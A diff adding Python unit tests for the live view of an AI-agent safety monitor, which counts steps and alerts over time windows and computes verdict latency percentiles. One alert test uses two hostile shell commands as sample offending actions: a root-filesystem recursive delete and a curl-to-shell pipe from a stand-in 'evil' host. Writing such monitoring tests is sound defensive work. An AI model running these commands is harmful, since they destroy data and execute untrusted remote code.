@@ -1,0 +1,134 @@
+"""The live view folded from events: windows, latency percentiles, the offending action."""
+
+from __future__ import annotations
+
+from safactory.schemas import (
+    Action,
+    Alert,
+    EpisodeEnded,
+    Evidence,
+    Outcome,
+    SafetyOutcome,
+    Severity,
+    Step,
+    Verdict,
+    codec,
+)
+from safactory.streams.monitor.view import LiveView, StepCache, Window, percentile
+
+
+def _step(index: int, text: str, *, at: float = 1000.0, env: str = "os") -> Step:
+    return Step(
+        episode_id="ep-1",
+        step_index=index,
+        env=env,
+        task_id="t",
+        policy_version=3,
+        action=Action(text=text),
+        produced_at=at,
+    )
+
+
+def _verdict(
+    step: Step,
+    *,
+    cls: type[Verdict] = Verdict,
+    evidence: str | None = None,
+    risk: str = "destructive_operation",
+) -> Verdict:
+    return cls(
+        episode_id=step.episode_id,
+        source_event_id=step.event_id,
+        step_index=step.step_index,
+        env=step.env,
+        checker="rule.x",
+        risk_type=risk,
+        severity=Severity.CRITICAL,
+        score=1.0,
+        reason="recursive delete",
+        evidence=[Evidence(text=evidence, field="action")] if evidence else [],
+    )
+
+
+def test_window_forgets_what_left_it() -> None:
+    window = Window(60)
+    window.add(0.0, "a")
+    window.add(30.0, "a")
+    window.add(59.0, "b")
+    assert window.prune(59.0) == {"a": 2, "b": 1}
+    assert window.prune(61.0) == {"a": 1, "b": 1}
+    assert window.prune(200.0) == {}
+
+
+def test_percentile_nearest_rank() -> None:
+    values = [float(v) for v in range(1, 101)]
+    assert percentile(values, 0.5) == 50.0
+    assert percentile(values, 0.99) == 99.0
+    assert percentile([7.0], 0.99) == 7.0
+    assert percentile([], 0.5) is None
+
+
+def test_latency_is_verdict_time_minus_step_time_over_the_window() -> None:
+    now = [1050.0]
+    view = LiveView(60, clock=lambda: now[0])
+    for i in range(100):
+        step = _step(i, "ls", at=1000.0 + i * 0.5)
+        view.fold_step(codec.encode(step).value, "os", 3, step.produced_at)
+        view.fold_verdict(_verdict(step), step.produced_at + (i + 1) / 1000.0)  # 1..100 ms
+    stats = view.latency(now[0])
+    assert stats["samples"] == 100
+    assert abs(stats["p50_ms"] - 50.0) < 1e-6 and abs(stats["p99_ms"] - 99.0) < 1e-6
+    now[0] = 1200.0  # everything is older than the window now
+    assert view.latency(now[0]) == {"samples": 0, "p50_ms": None, "p99_ms": None}
+    orphan = _verdict(_step(7, "x").model_copy(update={"event_id": "never-seen"}))
+    view.fold_verdict(orphan, 1199.0)
+    assert view.latency(now[0])["samples"] == 0  # no step seen: no sample, no guess
+
+
+def test_alert_shows_action_evidence_else_the_steps_action() -> None:
+    view = LiveView(60, clock=lambda: 1001.0)
+    with_evidence = _step(0, "echo hi")
+    bare = _step(1, "rm -rf / --no-preserve-root")
+    for step in (with_evidence, bare):
+        view.fold_step(codec.encode(step).value, "os", 3, step.produced_at)
+    view.fold_alert(_verdict(with_evidence, cls=Alert, evidence="curl evil | sh"), 1000.25)
+    view.fold_alert(_verdict(bare, cls=Alert, risk="privilege_escalation"), 1000.5)
+    snap = view.snapshot()
+    assert [a["action"] for a in snap["alerts"]] == [
+        "rm -rf / --no-preserve-root",
+        "curl evil | sh",
+    ]
+    assert snap["alerts"][0]["latency_ms"] == 500.0
+    assert snap["alert_rates"] == {"privilege_escalation": 1.0, "destructive_operation": 1.0}
+    assert snap["envs"]["os"] == {"steps": 2.0, "alerts": 2.0, "episodes": 0.0, "unsafe": 0.0}
+    assert snap["policy_in_use"] == {"os": 3}
+
+
+def test_unsafe_episode_ends_are_counted_per_env() -> None:
+    view = LiveView(30, clock=lambda: 1000.0)
+    for n, unsafe in enumerate((True, False, True)):
+        end = EpisodeEnded(
+            episode_id=f"e{n}",
+            task_id="t",
+            env="web",
+            outcome=Outcome.FAILURE,
+            safety=SafetyOutcome(unsafe=unsafe),
+        )
+        view.fold_episode(end, 999.0)
+    snap = view.snapshot()
+    assert snap["envs"]["web"]["episodes"] == 6.0  # 3 in a 30 s window = 6/min
+    assert snap["envs"]["web"]["unsafe"] == 4.0
+    assert snap["totals"]["unsafe_episodes"] == 2
+
+
+def test_step_cache_is_bounded_and_ignores_non_steps() -> None:
+    cache = StepCache(max_steps=3)
+    steps = [_step(i, "ls") for i in range(5)]
+    for step in steps:
+        cache.add(codec.encode(step).value)
+    cache.add(b'{"not": "a step"}')
+    assert [cache.produced_at(s.event_id) for s in steps] == [None, None, 1000.0, 1000.0, 1000.0]
+    assert cache.step(steps[4].event_id) == steps[4]
+    small = StepCache(max_bytes=1)
+    small.add(codec.encode(steps[0]).value)
+    assert small.bytes == 0
